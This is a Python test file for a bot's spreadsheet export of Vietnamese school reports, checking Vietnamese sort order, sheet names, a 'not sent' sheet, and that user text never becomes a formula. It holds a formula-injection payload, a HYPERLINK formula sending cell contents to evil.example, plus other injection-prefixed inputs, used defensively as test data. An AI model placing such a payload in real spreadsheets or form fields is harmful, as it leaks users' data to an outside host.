"""The spreadsheet an office expects: texts stay texts (no formulas from users), numbers and
dates are real cells, whole sheet names with a contents sheet, units in Vietnamese order, and a
"not sent" sheet with the missing units' leaders."""

from __future__ import annotations

import csv
import datetime as dt
import json
from pathlib import Path

from openpyxl import load_workbook

from bot.admin.export import export
from bot.collation import sort_key
from bot.core import Core
from tests.helpers import TZ, at
from tests.test_reminders_support import person

EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&D2&E2,"Xem chi tiết")'


async def _submit(core: Core, unit_id: str, submitter: str, answers: dict[str, object],
                  n: int, report_type: str = "interim", scope: str | None = None) -> None:
    await core.db.execute(
        "INSERT INTO submissions (receipt, report_type, period, scope_key, version, unit_id,"
        " submitter_name, answers, submitted_at, on_time) VALUES (?, ?, '2027', ?, 1, ?, ?, ?,"
        " ?, 1)",
        (f"BC-2027-{n:06d}", report_type, scope or f"unit:{unit_id}", unit_id, submitter,
         json.dumps(answers, ensure_ascii=False), at("2027-05-20 09:00").isoformat()))


async def _three_reports(core: Core) -> None:
    answers = {"staff_total": 52, "participants": 50, "campaigns": "=1+2",
               "highlights": "@SUM(A1)", "difficulties": "-2+3", "proposals": "\tx"}
    await _submit(core, "TH-LEQUYDON", "Lê Thị Hoa", answers, 1)
    await _submit(core, "TH-DAMSEN", EVIL_NAME, answers, 2)
    await _submit(core, "TH-LACLONGQUAN", "+Tuấn", answers, 3)


async def test_xlsx_texts_stay_texts_and_units_are_in_vietnamese_order(
        core: Core, tmp_path: Path) -> None:
    await _three_reports(core)
    await person(core, "hung", "MN-HOASEN")  # a leader of a unit that has not sent
    registry = core.report_types
    result = await export(core.submissions, core.units, registry, tmp_path, tz=TZ, period="2027")
    wb = load_workbook(result.path)
    assert wb.sheetnames[0] == "Mục lục" and "Chưa nộp" in wb.sheetnames
    for name in wb.sheetnames:  # whole words: a title that does not fit gets a code
        assert len(name) <= 31
    contents = [[c.value for c in row] for row in wb["Mục lục"].iter_rows(min_row=2)]
    coded = [row for row in contents if row[0].startswith("Loại ")]
    assert ["Loại 2", "Báo cáo tổng kết năm và công trình thi đua", 0] in coded
    sheet = wb["Báo cáo sơ kết 6 tháng đầu năm"]
    header = [c.value for c in sheet[1]]
    rows = [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
    # Vietnamese order: Đầm Sen after D, Lạc Long Quân before Lê Quý Đôn
    assert [r["Đơn vị"].value for r in rows] == [
        "Trường Tiểu học Đầm Sen", "Trường Tiểu học Lạc Long Quân", "Trường Tiểu học Lê Quý Đôn"]
    evil = rows[0]
    assert evil["Người nộp"].value == EVIL_NAME and evil["Người nộp"].data_type == "s"
    assert evil["Người nộp"].quotePrefix
    for key in ("Các phong trào đã triển khai", "Kết quả nổi bật", "Khó khăn, hạn chế"):
        assert evil[key].data_type == "s", key
    assert evil["Các phong trào đã triển khai"].value == "=1+2"
    assert evil["Tổng số CB-GV-NV"].value == 52 and evil["Tổng số CB-GV-NV"].data_type == "n"
    assert isinstance(evil["Thời gian nộp"].value, dt.datetime)
    # no cell anywhere is a formula
    for ws in wb.worksheets:
        assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"], ws.title
    missing = [[c.value for c in row] for row in wb["Chưa nộp"].iter_rows()]
    assert missing[0][:4] == ["Báo cáo", "Năm", "Mã đơn vị", "Đơn vị"]
    names = [r[3] for r in missing[1:] if r[0] == "Báo cáo sơ kết 6 tháng đầu năm"]
    assert len(names) == 20 - 3 and "Trường Tiểu học Đầm Sen" not in names
    hoasen = next(r for r in missing[1:] if r[3] == "Trường Mầm non Hoa Sen")
    assert hoasen[5] == "Hung" and "console" in hoasen[6]
    sonca = next(r for r in missing[1:] if r[3] == "Trường Mầm non Sơn Ca")
    assert sonca[5] == "chưa có lãnh đạo đăng ký dùng bot"
    assert names == sorted(names, key=sort_key)
    assert names.index("Trường THCS Lê Quý Đôn") > names.index("Trường THCS Lê Anh Xuân")


async def test_csv_escapes_what_a_spreadsheet_would_run(core: Core,
                                                        tmp_path: Path) -> None:
    await _three_reports(core)
    registry = core.report_types
    result = await export(core.submissions, core.units, registry, tmp_path, tz=TZ,
                          report_type="interim", period="2027", fmt="csv")
    with result.path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    evil = rows[0]
    assert evil["Người nộp"] == "'" + EVIL_NAME
    assert evil["Các phong trào đã triển khai"] == "'=1+2"
    assert evil["Kết quả nổi bật"] == "'@SUM(A1)"
    assert evil["Khó khăn, hạn chế"] == "'-2+3"
    assert evil["Kiến nghị, đề xuất"] == "'\tx"
    assert rows[1]["Người nộp"] == "'+Tuấn"
    assert evil["Tổng số CB-GV-NV"] == "52"  # numbers are not touched
    assert rows[2]["Người nộp"] == "Lê Thị Hoa"


async def test_people_sort_in_vietnamese_order_within_a_unit(core: Core,
                                                             tmp_path: Path) -> None:
    for n, name in enumerate(["Lê Văn An", "Đỗ Thị Bình", "Lạc Thị Cúc", "Dương Văn Dũng"]):
        await _submit(core, "TH-KIMDONG", name, {}, n + 1, "title_individual",
                      f"user:{n}")
    registry = core.report_types
    result = await export(core.submissions, core.units, registry, tmp_path, tz=TZ,
                          report_type="title_individual", period="2027")
    wb = load_workbook(result.path)
    ws = wb[wb.sheetnames[1]]
    assert [row[3].value for row in ws.iter_rows(min_row=2)] == [
        "Dương Văn Dũng", "Đỗ Thị Bình", "Lạc Thị Cúc", "Lê Văn An"]
    assert wb["Chưa nộp"].max_row == 1  # a person's report has no "not sent" units
